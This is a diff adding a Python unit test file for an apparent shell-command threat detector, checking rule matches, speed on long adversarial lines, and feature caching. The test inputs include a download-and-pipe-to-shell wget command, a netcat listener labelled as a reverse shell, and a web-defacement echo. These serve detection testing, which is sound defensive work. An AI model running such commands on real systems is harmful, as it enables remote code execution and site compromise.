@@ -0,0 +1,44 @@
+import os
+import sys
+import time
+import unittest
+
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'core_ml'))
+
+from commands import CommandFeatureCache, CommandMatcher
+
+
+class TestCommandMatcher(unittest.TestCase):
+    def setUp(self):
+        self.matcher = CommandMatcher()
+
+    def test_rules_match_anywhere_in_line(self):
+        self.assertEqual(self.matcher.match("wget http://example.com/x.sh -O- | sh"),
+                         ['suspicious_binary', 'download_and_execute', 'pipe_to_shell'])
+        self.assertIn('reverse_shell', self.matcher.match("nc -lvp 4444"))
+        self.assertIn('web_defacement', self.matcher.match("echo 'hacked' > /var/www/html/index.html"))
+        self.assertEqual(self.matcher.match("ls -la"), [])
+        self.assertEqual(self.matcher.match(""), [])
+
+    def test_long_adversarial_lines_stay_fast(self):
+        start = time.perf_counter()
+        for line in ('wget |' * 4000, 'nc ' * 5000, 'rm -' + 'a' * 5000):
+            self.matcher.match(line)
+        self.assertLess(time.perf_counter() - start, 0.5)
+
+
+class TestCommandFeatureCache(unittest.TestCase):
+    def test_features_are_memoized(self):
+        cache = CommandFeatureCache(CommandMatcher(), max_entries=2)
+        commands = ["uname -a", "ls", "uname -a"]
+        first = cache.features(commands)
+        self.assertEqual(first['total_commands'], 3)
+        self.assertEqual(first['unique_commands'], 2)
+        self.assertEqual(first['suspicious_command_count'], 2)
+        first['total_commands'] = 0
+        self.assertEqual(cache.features(list(commands))['total_commands'], 3)
+        self.assertEqual(cache.stats()['hits'], 1)
+
+
+if __name__ == "__main__":
+    unittest.main()